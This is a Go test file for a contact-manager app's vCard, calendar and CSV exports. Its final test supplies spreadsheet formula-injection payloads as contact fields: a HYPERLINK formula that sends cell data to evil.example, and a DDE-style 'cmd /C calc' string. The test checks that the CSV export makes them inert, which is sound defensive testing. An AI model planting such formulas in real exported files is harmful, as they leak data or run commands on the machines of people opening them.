package app

import (
	"bytes"
	"context"
	"encoding/csv"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"github.com/rapport-app/rapport"
	"github.com/rapport-app/rapport/internal/importer/vcard"
)

func exportFixture(t *testing.T) *App {
	a := newApp(t, now)
	ctx := context.Background()
	must[*PersonDetail](t)(a.AddPerson(ctx, "Ada Lovelace", PersonEdit{AddEmails: []string{"ada@example.com"}, AddPhones: []string{"+44 20 7946 0000"},
		AddURLs: []string{"linkedin.com/in/ada"}, Org: ptr("Analytical Engines; Babbage, Ltd."), AddTags: []string{"mentor", "math"}, AddNotes: []string{"Likes poetry; and engines."}}))
	must[*PersonDetail](t)(a.AddPerson(ctx, "José García", PersonEdit{AddEmails: []string{"jose@example.org"}}))
	must[*rapport.Interaction](t)(a.Log(ctx, LogInput{Ref: "ada", Kind: "call", At: at(a, "2026-10-01")}))
	must[*rapport.Followup](t)(a.AddFollowup(ctx, "jose", "send the deck, with notes", at(a, "2026-11-25")))
	return a
}

// What Rapport writes, an address book reads back: our own reader, and an
// independent one (python3-vobject / python3-icalendar, installed by CI).
func TestExportedVCardsReadBack(t *testing.T) {
	a := exportFixture(t)
	var buf bytes.Buffer
	if err := a.ExportVCard(context.Background(), &buf, ExportFilter{}); err != nil {
		t.Fatal(err)
	}
	res, err := vcard.Read(bytes.NewReader(buf.Bytes()), "export.vcf")
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, p := range res.People {
		got = append(got, p.Name+"|"+strings.Join(p.Emails, ",")+"|"+strings.Join(p.Phones, ",")+"|"+p.Org+"|"+strings.Join(p.Tags, ","))
	}
	sort.Strings(got)
	want := []string{"Ada Lovelace|ada@example.com|+44 20 7946 0000|Analytical Engines; Babbage, Ltd.|math,mentor", "José García|jose@example.org|||"}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("read back:\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	python(t, buf.Bytes(), "vcf", `
import sys, vobject
cards = list(vobject.readComponents(open(sys.argv[1], encoding="utf-8").read()))
assert len(cards) == 2, len(cards)
names = sorted(c.fn.value for c in cards)
assert names == ["Ada Lovelace", "José García"], names
ada = [c for c in cards if c.fn.value == "Ada Lovelace"][0]
assert ada.email.value == "ada@example.com"
assert ada.org.value == ["Analytical Engines; Babbage, Ltd."], ada.org.value
print("ok")`)
}

func TestExportedCalendarReadsBack(t *testing.T) {
	a := exportFixture(t)
	var buf bytes.Buffer
	if err := a.ExportICS(context.Background(), &buf); err != nil {
		t.Fatal(err)
	}
	if !bytes.Contains(buf.Bytes(), []byte("Follow up with José García")) {
		t.Errorf("the follow-up is missing:\n%s", buf.String())
	}
	python(t, buf.Bytes(), "ics", `
import sys, icalendar
cal = icalendar.Calendar.from_ical(open(sys.argv[1], "rb").read())
events = list(cal.walk("VEVENT"))
assert events, "no events"
summaries = [str(e.get("SUMMARY")) for e in events]
assert any("send the deck, with notes" in s for s in summaries), summaries
for e in events:
    assert e.get("UID") and e.get("DTSTART") and e.get("DTSTAMP")
print("ok")`)
}

func TestExportCSV(t *testing.T) {
	a := exportFixture(t)
	var buf bytes.Buffer
	if err := a.ExportCSV(context.Background(), &buf, ExportFilter{Tag: "mentor"}); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil || len(rows) != 2 || rows[1][1] != "Ada Lovelace" || rows[1][5] != "Analytical Engines; Babbage, Ltd." || rows[1][7] != "math ; mentor" {
		t.Errorf("csv = %q, %v", rows, err)
	}
}

// python runs a check script with Debian's python3 on the exported bytes.
func python(t *testing.T, data []byte, ext, script string) {
	t.Helper()
	const py = "/usr/bin/python3"
	if _, err := os.Stat(py); err != nil {
		t.Skip("no /usr/bin/python3: install python3-vobject and python3-icalendar (CI does)")
	}
	if out, err := exec.Command(py, "-c", "import vobject, icalendar").CombinedOutput(); err != nil {
		if os.Getenv("CI") != "" {
			t.Fatalf("CI must install python3-vobject and python3-icalendar: %s", out)
		}
		t.Skipf("python3-vobject or python3-icalendar missing: %s", out)
	}
	path := filepath.Join(t.TempDir(), "export."+ext)
	if err := os.WriteFile(path, data, 0o644); err != nil {
		t.Fatal(err)
	}
	out, err := exec.Command(py, "-c", script, path).CombinedOutput()
	if err != nil || !strings.Contains(string(out), "ok") {
		t.Fatalf("the independent reader refused the export: %v\n%s\n%s", err, out, data)
	}
}

// Imported data can hold formulas: the CSV export never lets a spreadsheet
// run one, and leaves every other value as it was.
func TestExportCSVCellsAreInert(t *testing.T) {
	a := newApp(t, now)
	ctx := context.Background()
	formula := `=HYPERLINK("http://evil.example/?d="&A1,"click")`
	must[*PersonDetail](t)(a.AddPerson(ctx, "@SUM(1+1)", PersonEdit{Org: ptr(formula), Title: ptr("+cmd|' /C calc'!A0"),
		Met: ptr("-2+3"), AddPhones: []string{"+44 20 7946 0000"}, AddTags: []string{"mentor"}}))
	must[*PersonDetail](t)(a.AddPerson(ctx, "Grace Hopper", PersonEdit{Org: ptr("Navy"), AddTags: []string{"mentor"}}))
	var buf bytes.Buffer
	if err := a.ExportCSV(ctx, &buf, ExportFilter{}); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil || len(rows) != 3 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for _, row := range rows[1:] {
		for i, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("%s: %q would run as a formula", rows[0][i], cell)
			}
		}
		if row[1] == "Grace Hopper" && row[5] != "Navy" {
			t.Errorf("a plain value changed: %q", row[5])
		}
		if row[1] == "'@SUM(1+1)" && row[5] != "'"+formula {
			t.Errorf("org %q", row[5])
		}
	}
}
